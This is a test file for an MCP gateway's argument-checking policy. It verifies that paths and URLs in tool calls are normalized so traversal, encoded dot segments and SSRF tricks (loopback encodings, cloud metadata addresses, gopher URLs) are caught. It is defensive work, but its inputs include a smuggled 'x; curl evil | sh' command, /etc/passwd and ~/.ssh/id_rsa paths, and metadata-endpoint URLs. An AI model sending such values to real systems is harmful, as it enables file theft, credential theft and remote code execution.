// input.mcp.paths and input.mcp.urls: the paths and URLs a request names, normalized the way the
// upstream will read them, so the policy compares plain strings.
import { describe, expect, it } from "vitest";
import { valueFacts } from "../../../gateway/policy/argument-facts.ts";
import { isPathName, MAX_PATH_FACTS } from "../../../gateway/policy/argument-paths.ts";
import { MAX_URL_FACTS, urlScheme } from "../../../gateway/policy/argument-urls.ts";
import { MAX_WALK_DEPTH } from "../../../gateway/policy/argument-walk.ts";
import { buildDecisionInput } from "../../../gateway/policy/index.ts";

const pathsOf = (args: Record<string, unknown>, uri: string | null = null) =>
  valueFacts(args, uri).paths.map((f) => (f.error === null ? f.path : `error: ${f.error}`));

const urlsOf = (args: Record<string, unknown>) => valueFacts(args, null).urls;

describe("paths", () => {
  it("resolves .. and . segments, repeated and trailing slashes", () => {
    expect(
      pathsOf({
        path: "/tmp/gatehouse/../../etc/passwd",
        source: "/tmp/gatehouse/",
        destination: "/tmp//gatehouse/./a/",
        dir: "/",
      }),
    ).toEqual(["/etc/passwd", "/tmp/gatehouse", "/tmp/gatehouse/a", "/"]);
  });

  it("finds every path of an array and of nested objects, with where it was", () => {
    const { paths } = valueFacts(
      { paths: ["/tmp/gatehouse/a", "/etc/shadow"], options: { output_file: "/x/../y" } },
      null,
    );
    expect(paths.map((f) => [f.from, f.path, f.kind, f.absolute])).toEqual([
      ["/arguments/paths/0", "/tmp/gatehouse/a", "path", true],
      ["/arguments/paths/1", "/etc/shadow", "path", true],
      ["/arguments/options/output_file", "/y", "path", true],
    ]);
  });

  it("keeps relative and home paths relative: they are nowhere a root can vouch for", () => {
    const { paths } = valueFacts({ path: "x; curl evil | sh", file: "~/.ssh/id_rsa" }, null);
    expect(paths.map((f) => [f.path, f.absolute])).toEqual([
      ["x; curl evil | sh", false],
      ["~/.ssh/id_rsa", false],
    ]);
  });

  it("decodes file: URIs anywhere, including percent-encoded dot segments and slashes", () => {
    expect(
      pathsOf({
        message: "file:///tmp/gatehouse/%2e%2e/%2e%2e/etc/passwd",
        list: [
          "file:///tmp/gatehouse/..%2F..%2Fetc/passwd",
          "FILE://localhost/tmp/gatehouse/a%20b",
        ],
      }),
    ).toEqual(["/etc/passwd", "/etc/passwd", "/tmp/gatehouse/a b"]);
    expect(pathsOf({}, "file:///tmp/gatehouse/../../etc/passwd")).toEqual(["/etc/passwd"]);
    expect(valueFacts({}, "file:///tmp/gatehouse/a").paths[0]).toMatchObject({
      from: "/uri",
      kind: "file_uri",
    });
  });

  it("reports what it cannot read instead of guessing", () => {
    expect(
      pathsOf({
        path: "/tmp/gatehouse/a\u0000/../../../etc/passwd",
        a: "file://fileserver/share/x",
        b: "file:///tmp/%E0%A4%A",
      }),
    ).toEqual([
      "error: it contains a NUL character",
      "error: it names a file on host fileserver",
      "error: it holds an invalid percent-encoding",
    ]);
  });

  it("leaves other strings alone: contents, patterns and plain URIs are not paths", () => {
    expect(
      pathsOf({
        content: "/etc/passwd",
        pattern: "../../*",
        excludePatterns: ["/etc"],
        profile: "/x",
        uri: "demo://resource/1",
      }),
    ).toEqual([]);
  });

  it("recognizes path-like member names in any case style", () => {
    for (const name of [
      "path",
      "paths",
      "filePath",
      "file_path",
      "output-file",
      "baseDir",
      "directory",
      "source",
      "destination",
      "cwd",
      "FILE_PATH",
    ])
      expect(isPathName(name), name).toBe(true);
    for (const name of [
      "content",
      "pattern",
      "excludePatterns",
      "profile",
      "message",
      "data",
      "url",
    ])
      expect(isPathName(name), name).toBe(false);
  });
});

describe("urls", () => {
  it("normalizes hosts the way fetchers read them", () => {
    const facts = urlsOf({
      a: "http://127.0.0.2:18092/computeMetadata/v1/",
      b: "http://2130706433/",
      c: "http://0x7f.1/",
      d: "http://[::ffff:127.0.0.1]/",
      e: "http://localhost./",
      f: "HTTP://0177.0.0.1",
      g: "gopher://2130706433:70/_x",
      h: " \thtt\tp://10.0.0.5/",
    });
    expect(facts.map((f) => [f.from, f.scheme, f.host, f.port, f.address_class])).toEqual([
      ["/arguments/a", "http", "127.0.0.2", 18092, "loopback"],
      ["/arguments/b", "http", "127.0.0.1", 80, "loopback"],
      ["/arguments/c", "http", "127.0.0.1", 80, "loopback"],
      ["/arguments/d", "http", "::ffff:7f00:1", 80, "loopback"],
      ["/arguments/e", "http", "localhost", 80, null],
      ["/arguments/f", "http", "127.0.0.1", 80, "loopback"],
      ["/arguments/g", "gopher", "127.0.0.1", 70, "loopback"],
      ["/arguments/h", "http", "10.0.0.5", 80, "private"],
    ]);
  });

  it("finds URLs at any depth and in the resource URI", () => {
    const { urls } = valueFacts(
      { opts: { sources: [{ href: "https://example.com/a" }] } },
      "http://[::1]/x",
    );
    expect(urls.map((f) => [f.from, f.host, f.address_class])).toEqual([
      ["/arguments/opts/sources/0/href", "example.com", null],
      ["/uri", "::1", "loopback"],
    ]);
  });

  it("keeps no path, query or credentials of the URL, only that it had credentials", () => {
    const [fact] = urlsOf({ url: "https://admin:hunter2@example.com/p?token=s3cr3t#f" });
    expect(fact).toEqual({
      from: "/arguments/url",
      scheme: "https",
      host: "example.com",
      port: 443,
      address_class: null,
      credentials: true,
      error: null,
    });
    expect(JSON.stringify(fact)).not.toMatch(/hunter2|s3cr3t|admin/);
  });

  it("tells URLs from text: special schemes, or a scheme followed by //", () => {
    expect(urlScheme("file:/etc/passwd")).toBe("file");
    expect(urlScheme("http:example.com")).toBe("http");
    expect(urlScheme("dict://127.0.0.1:11211/")).toBe("dict");
    expect(urlScheme("Warning: disk full")).toBeNull();
    expect(urlScheme("data:text/plain,hi")).toBeNull();
    expect(urlScheme("mailto:a@example.com")).toBeNull();
    expect(urlScheme("just text")).toBeNull();
  });

  it("reports a URL the parser rejects instead of dropping it", () => {
    const [fact] = urlsOf({ url: "http://[::1/" });
    expect(fact!.error).toMatch(/URL parser rejects it/);
  });
});

describe("address classes", () => {
  it("classifies IP-literal hosts as the egress guard does, metadata endpoints by name", () => {
    const hosts = {
      a: "127.0.0.1",
      b: "10.1.2.3",
      c: "169.254.1.1",
      d: "169.254.169.254",
      e: "[fd00:ec2::254]",
      f: "[::ffff:169.254.169.254]",
      g: "[64:ff9b::a9fe:a9fe]",
      h: "100.64.0.1",
      i: "0.0.0.0",
      j: "[::]",
      k: "[fe80::1]",
      l: "[fd12::1]",
      m: "93.184.216.34",
      n: "[2606:4700::1]",
      o: "example.com",
    };
    const urls = urlsOf(
      Object.fromEntries(Object.entries(hosts).map(([k, h]) => [k, `http://${h}/`])),
    );
    expect(urls.map((f) => f.address_class)).toEqual([
      "loopback",
      "private",
      "linkLocal",
      "metadata",
      "metadata",
      "metadata",
      "metadata",
      "carrierGradeNat",
      "unspecified",
      "unspecified",
      "linkLocal",
      "uniqueLocal",
      "unicast",
      "unicast",
      null,
    ]);
  });
});

describe("bounds", () => {
  it("adds an error fact past the number of paths or URLs it reports", () => {
    const many = { paths: Array.from({ length: MAX_PATH_FACTS + 5 }, (_, i) => `/tmp/${i}`) };
    const { paths } = valueFacts(many, null);
    expect(paths).toHaveLength(MAX_PATH_FACTS + 1);
    expect(paths.at(-1)!.error).toMatch(/the rest were not checked/);
    const urls = urlsOf({
      u: Array.from({ length: MAX_URL_FACTS + 5 }, () => "https://a.example/"),
    });
    expect(urls).toHaveLength(MAX_URL_FACTS + 1);
    expect(urls.at(-1)!.error).toMatch(/the rest were not checked/);
  });

  it("adds an error fact when arguments are nested deeper than it walks", () => {
    let deep: unknown = "http://169.254.169.254/";
    for (let i = 0; i < MAX_WALK_DEPTH + 5; i++) deep = { a: deep };
    const facts = valueFacts({ deep }, null);
    expect(facts.urls).toEqual([
      expect.objectContaining({
        from: `/arguments/deep${"/a".repeat(MAX_WALK_DEPTH - 1)}`,
        error: expect.stringMatching(/deeper than/),
      }),
    ]);
    expect(facts.paths[0]!.error).toMatch(/deeper than/);
  });
});

describe("buildDecisionInput", () => {
  it("puts the check and the facts in input.mcp for tools/call, and only the facts elsewhere", () => {
    const schema = {
      type: "object",
      properties: { paths: { type: "array", items: { type: "string" } } },
    };
    const call = buildDecisionInput({
      request: { id: "r" },
      principal: { sub: "a", auth: "dev" },
      mcp: {
        method: "tools/call",
        server: "filesystem",
        tool: "read_multiple_files",
        arguments: { paths: ["/tmp/gatehouse/../../etc/passwd"], notes: "x" },
        inputSchema: schema,
      },
    });
    expect(call.mcp).toMatchObject({
      arguments_valid: true,
      argument_errors: [],
      undeclared_arguments: ["notes"],
      paths: [{ from: "/arguments/paths/0", path: "/etc/passwd" }],
      urls: [],
    });
    const read = buildDecisionInput({
      request: { id: "r" },
      principal: { sub: "a", auth: "dev" },
      mcp: { method: "resources/read", server: "x", uri: "file:///tmp/gatehouse/%2e%2e/x" },
    });
    expect(read.mcp).toMatchObject({
      arguments_valid: null,
      paths: [{ from: "/uri", kind: "file_uri", path: "/tmp/x" }],
      urls: [{ from: "/uri", scheme: "file", host: null }],
    });
  });
});
